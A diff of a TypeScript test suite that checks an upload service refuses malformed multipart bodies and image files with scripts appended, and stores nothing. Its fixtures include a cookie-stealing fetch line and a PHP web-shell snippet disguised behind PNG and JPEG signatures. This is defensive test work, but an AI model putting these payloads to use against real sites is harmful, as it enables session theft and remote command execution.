@@ -1,6 +1,6 @@
 /**
  * Bad multipart input is harmless: truncated bodies, a missing or wrong boundary, zero parts, a part over
- * the cap, a thousand tiny parts, polyglot files (an image header in front of a script), and a mix of good
+ * the cap, a thousand tiny parts, a script behind an image signature without a readable header, and a mix of good
  * and bad files. Each answer is a clear 4xx JSON error, nothing is stored (the bucket is listed through
  * the real S3 client against s3rver and the table is read back whole), and memory stays bounded.
  */
@@ -123,18 +123,13 @@ describe.each(['/library/push', '/library/multi/push'] as const)('%s', (path) =>
     expect(growth).toBeLessThan(256 * 1024 * 1024);
   });
 
-  it('refuses polyglot files: an image header in front of a script', async () => {
+  it('refuses a script behind an image signature whose header cannot be read (markup behind a readable header: stored-markup.test.ts)', async () => {
     const script = '<script>fetch("http://127.0.0.1:1/?c="+document.cookie)</script><?php system($_GET["c"]); ?>';
     const polyglots: [string, Buffer][] = [
       ['png magic + script', Buffer.concat([png.subarray(0, 8), Buffer.from(script)])],
-      ['png header + script', Buffer.concat([png.subarray(0, 33), Buffer.from(script)])],
       [
         'jpeg magic + html',
         Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(`<html><body>${script}</body></html>`)]),
-      ],
-      [
-        'gif + javascript',
-        Buffer.from(`GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//${script}`, 'latin1'),
       ],
     ];
     for (const [label, data] of polyglots) {
@@ -154,8 +149,8 @@ describe.each(['/library/push', '/library/multi/push'] as const)('%s', (path) =>
 
 describe('all or nothing', () => {
   it('stores none of the good files of a multi push when one of them is bad', async () => {
-    const polyglot = Buffer.concat([png.subarray(0, 8), Buffer.from('<script>alert(1)</script>')]);
-    const { body, contentType } = multipartBody([image('a'), image('b'), image('c', polyglot), image('d')]);
+    const headerless = Buffer.concat([png.subarray(0, 8), Buffer.from('<script>alert(1)</script>')]);
+    const { body, contentType } = multipartBody([image('a'), image('b'), image('c', headerless), image('d')]);
     const response = await expectRefusedAndNothingStored(
       () => push('/library/multi/push', body, contentType),
       [400, 415],
@@ -180,7 +175,7 @@ describe('all or nothing', () => {
 });
 
 describe('large-file upload', () => {
-  it('refuses a polyglot stored through the presigned upload with 415 and removes its bytes', async () => {
+  it('refuses an upload whose image header cannot be read with 415 and removes its bytes', async () => {
     const before = await snapshotStore(service);
     const ticket = await service.request('POST', '/library/upload', { apiKey: libraryKey });
     expect(ticket.status, ticket.text).toBe(200);
@@ -189,7 +184,7 @@ describe('large-file upload', () => {
       form.append(name, value);
     form.append(
       'file',
-      new Blob([Buffer.concat([png.subarray(0, 33), Buffer.from('<html><script>alert(1)</script></html>')])]),
+      new Blob([Buffer.concat([png.subarray(0, 8), Buffer.from('<html><script>alert(1)</script></html>')])]),
       'x.png',
     );
     const uploaded = await fetch(ticket.body.Upload.Url, { method: 'POST', body: form });
